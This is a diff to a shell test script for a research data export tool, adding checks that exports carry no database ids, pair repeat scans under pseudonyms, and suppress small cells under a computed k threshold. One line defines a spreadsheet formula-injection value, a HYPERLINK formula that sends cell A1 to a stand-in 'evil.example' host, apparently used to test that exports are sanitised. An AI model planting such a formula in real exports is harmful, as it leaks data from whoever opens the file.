@@ -8,7 +8,7 @@
 new_db
 out=$("$FPHC_BIN" demo init)
 rpw=$(echo "$out" | sed -n 's/.*onderzoeker@demo.example.*password: \(.*\)$/\1/p')
-"$FPHC_BIN" demo seed --companies 30 --scans-per-company 1 --seed 11 --quiet >/dev/null 2>&1
+"$FPHC_BIN" demo seed --companies 30 --scans-per-company 2 --seed 11 --quiet >/dev/null 2>&1
 sid=$(psql_q "SELECT min(rr.scan_id) FROM research_rows rr JOIN scans s ON s.id = rr.scan_id JOIN organisations o ON o.id = s.org_id WHERE o.share_open_text AND o.share_research")
 check "a scan of an association that shares open text" test -n "$sid"
 evil='=HYPERLINK("http://evil.example/?x="&A1,"klik")'
@@ -42,13 +42,24 @@ for r in rows:
         if v.startswith('-'):
             float(v)
 PY
+check "no database id in any export: scans are numbered 1..n within their company, ids appear nowhere" python3 - "$WORK/w.csv" "$WORK/l.csv" "$(psql_q "SELECT string_agg(id::text, ' ') FROM scans WHERE id > 2")" <<'PY'
+import csv, sys
+ids = set(sys.argv[3].split())
+for path in sys.argv[1:3]:
+    per = {}
+    for r in csv.DictReader(open(path, newline='', encoding='utf-8')):
+        per.setdefault(r['pseudonym'], set()).add(int(r['scan']))
+        assert r['scan'] not in ids, (path, r['scan'])
+    assert all(s == set(range(1, len(s) + 1)) for s in per.values()), per
+    assert any(len(s) == 2 for s in per.values()), 'repeat scans pair under one pseudonym'
+PY
 check "long file: the same codes as the wide file, cell for cell (options as in the wide file)" python3 - "$WORK/w.csv" "$WORK/l.csv" "$WORK/cb.csv" <<'PY'
 import csv, sys
-wide = {r['scan']: r for r in csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8'))}
+wide = {(r['pseudonym'], r['scan']): r for r in csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8'))}
 cb = {r['variable']: r for r in csv.DictReader(open(sys.argv[3], newline='', encoding='utf-8'))}
 n = 0
 for r in csv.DictReader(open(sys.argv[2], newline='', encoding='utf-8')):
-    w = wide[r['scan']]
+    w = wide[(r['pseudonym'], r['scan'])]
     assert w[r['item']] == r['answer'], (r['scan'], r['item'], w[r['item']], r['answer'])
     base = cb[r['item']]['item']
     if cb[r['item']]['type'] == 'numeric':
@@ -96,9 +107,13 @@ out=$("$FPHC_BIN" export --format csv --version 1 --from 2026-03-01 --to 2026-02
 expect_eq "CLI: from after to is a usage error" 2 "$rc"
 expect_contains "CLI: and says so" "is after --to" "$out"
 
-# k = 2: the seeded data have one sector with a single scan, which alone
+# k just above the smallest cell that is alone in its dimension: that cell
 # would be computable from the total, so a second cell is hidden with it
-FPHC_BENCHMARK_K=2 start_server
+k=$(psql_q "SELECT min(n) + 1 FROM (SELECT dimension, n, count(*) OVER (PARTITION BY dimension, n) AS same,
+  min(n) OVER (PARTITION BY dimension) AS least FROM research_aggregates WHERE level = 'overall' AND cell <> '') c
+  WHERE n = least AND same = 1 AND n >= 1")
+check "a dimension has one smallest cell (k = $k)" test -n "$k"
+FPHC_BENCHMARK_K=${k:-2} start_server
 http POST /login --data-urlencode "email=onderzoeker@demo.example" --data-urlencode "password=$rpw" --data "next=/research"
 http GET /research/exports; csrf=$(form_csrf)
 http POST /research/exports --data "csrf=$csrf&version=1&format=csv&from=2026-02-31"
